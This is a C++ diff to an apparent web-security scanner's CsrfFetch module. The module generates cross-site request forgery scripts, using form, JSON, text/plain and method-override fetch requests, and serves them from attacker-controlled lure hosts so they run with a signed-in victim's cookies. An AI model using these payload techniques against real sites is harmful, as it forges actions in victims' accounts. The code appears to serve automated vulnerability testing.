@@ -13,15 +13,24 @@ constexpr std::string_view kJson = "application/json";
 
 class CsrfFetch final : public Agent {
     void run(Target& target) override {
-        OwnHost* evil = any_host(target);
-        if (evil == nullptr) return;
+        OwnHost* evil = sibling_host(target);
+        if (evil == nullptr) evil = any_host(target);
+        std::vector<Endpoint const*> const endpoints = unsafe_endpoints(target);
+        if (evil == nullptr || endpoints.empty()) return;
+        std::vector<OwnForm> const own = look_at_forms(target, endpoints, As::Attacker);
         std::vector<std::string> scripts;
-        for (Endpoint const* each : unsafe_endpoints(target))
-            add_scripts(scripts, target, *each, look_at_form(target, *each, As::Attacker));
-        if (scripts.empty() || !victim_signs_in(target)) return;
+        for (std::size_t i = 0; i < endpoints.size(); ++i)
+            add_scripts(scripts, target, *endpoints[i], own[i]);
+        if (!victim_signs_in(target)) return;
         target.wait(std::chrono::minutes(3));
         Lure lure(target, *evil);
         for (std::string const& each : scripts) lure.show("<script>" + each + "</script>");
+        // Who may read is perhaps told by the name alone.
+        for (OwnHost* host : target.hosts())
+            if (host != evil && may_read(own.front()))
+                Lure(target, *host)
+                    .show("<script>" + act_script(target, *endpoints.front(), own.front()) +
+                          "</script>");
         target.note("A script on " + evil->name() + " sent requests with the victim's cookies.");
     }
 
@@ -35,7 +44,8 @@ class CsrfFetch final : public Agent {
         std::string const json = json_object(fields);
         bool const is_post = endpoint.method == "POST";
         std::string const& simple = is_post ? address : overridden;
-        to.push_back(simple_fetch(simple, form, kForm) + ";" + simple_fetch(simple, json, ""));
+        to.push_back(simple_fetch(simple, form, kForm) + ";" + simple_fetch(simple, json, "") +
+                     ";" + fetch_script("POST", simple, kForm, script_string(form)));
         to.push_back(fetch_script(endpoint.method, address, kJson, script_string(json)));
         if (!is_post)
             to.push_back(fetch_script(endpoint.method, address, kForm, script_string(form)));
@@ -43,8 +53,11 @@ class CsrfFetch final : public Agent {
             // To the browser this is text/plain, and to a careless server JSON (MIME Sniffing
             // Standard, "essence").
             to.push_back(simple_fetch(simple, json, "text/plain;application/json"));
-        if (!own.before_token.empty() || !own.headers.empty())
-            to.push_back(act_script(target, endpoint, own));
+        if (may_read(own)) to.push_back(act_script(target, endpoint, own));
+    }
+
+    static bool may_read(OwnForm const& own) {
+        return !own.before_token.empty() || !own.headers.empty();
     }
 
     static bool is_json(Endpoint const& endpoint) {
